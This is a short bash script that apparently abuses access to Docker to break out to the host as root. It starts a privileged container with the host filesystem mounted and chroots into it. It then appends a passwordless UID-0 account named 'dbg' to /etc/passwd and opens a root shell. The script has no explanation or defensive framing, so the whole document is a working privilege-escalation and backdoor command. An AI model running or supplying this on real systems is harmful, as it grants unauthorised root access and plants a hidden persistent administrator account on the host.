#!/bin/bash
docker run --rm -it --privileged --pid=host -v /:/host alpine chroot /host /bin/sh -c \
  'echo "dbg::0:0::/root:/bin/sh" >> /etc/passwd; /bin/sh'
